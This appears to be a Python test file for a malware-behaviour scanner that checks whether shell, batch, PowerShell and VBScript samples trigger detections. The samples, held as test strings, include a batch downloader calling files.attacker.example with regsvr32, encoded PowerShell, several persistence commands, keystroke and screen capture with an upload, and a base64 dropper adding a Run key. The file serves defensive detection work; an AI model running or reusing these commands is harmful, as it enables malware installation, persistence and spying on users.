"""Shell, batch and PowerShell scripts read with patterns (scanner/behaviour/shell.py)."""

from __future__ import annotations

from scanner.behaviour.analyse import analyse_shell
from scanner.behaviour.files import FileKind, file_kind
from scanner.behaviour.model import Capability


def _details(text: str) -> set[tuple[str, str | None]]:
    return {(s.capability.value, s.detail) for s in analyse_shell(text.encode()).signals}


def test_batch_and_powershell_files_are_scripts() -> None:
    for path in ("compile.bat", "x.cmd", "setup.ps1", "install.sh"):
        assert file_kind(path, b"echo hi\n") is FileKind.SHELL


def test_a_batch_file_that_assembles_curl_and_regsvr32_from_fragments() -> None:
    script = (
        "@echo off\nset k1=cu\nset k2=rl\nset u=https://files.attacker.example/x.dll\n"
        "%k1%%k2% %u% -o x.dll\n%r1%%r2%.exe -s x.dll\nregsvr32 -s x.dll\n"
    )
    found = _details(script)
    assert ("obfuscation", "command-fragments") in found
    assert (Capability.NETWORK.value, "url") in found
    assert (Capability.PROCESS_SPAWN.value, "lolbin") in found


def test_urls_in_comments_and_plain_variables_are_not_downloads() -> None:
    script = "# see https://example.test/docs\nREM https://example.test\necho %PATH%\n"
    assert _details(script) == set()


def test_encoded_powershell_runs_decoded_code() -> None:
    assert ("decoded-exec", "powershell") in _details("powershell -nop -enc SQBFAFgA\n")


def test_persistence_commands_are_risky_writes_but_listing_a_crontab_is_not() -> None:
    for line in (
        '(crontab -l; echo "*/5 * * * * node ~/.cache/u.js") | crontab -\n',
        "launchctl load ~/Library/LaunchAgents/com.update.plist\n",
        'schtasks /create /sc minute /tn "Upd" /tr "node u.js"\n',
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d x.exe" + "\n",
        "systemctl --user enable updater.service\n",
    ):
        assert (Capability.FILE_WRITE.value, "persistence") in _details(line), line
    assert _details("crontab -l\n") == set()


def test_keystroke_polling_and_screen_capture_read_as_credential_access() -> None:
    script = (
        '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);\n'
        "$graphics.CopyFromScreen($screen.Left, $screen.Top, 0, 0, $bitmap.Size)\n"
        "Invoke-RestMethod -Uri $Upload -Method Post -Form @{ shot = $file }\n"
    )
    found = _details(script)
    assert ("credential-access", "keystrokes") in found
    assert ("credential-access", "screen") in found
    assert (Capability.NETWORK.value, "powershell") in found


def test_a_vbscript_dropper_decodes_base64_and_adds_a_run_key() -> None:
    assert file_kind("scripts/install.vbs", b"WScript.Quit 1\n") is FileKind.SHELL
    script = (
        'node.DataType = "bin.base64"\n'
        'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Host", dst\n'
    )
    found = _details(script)
    assert ("decode", "base64") in found
    assert (Capability.FILE_WRITE.value, "persistence") in found
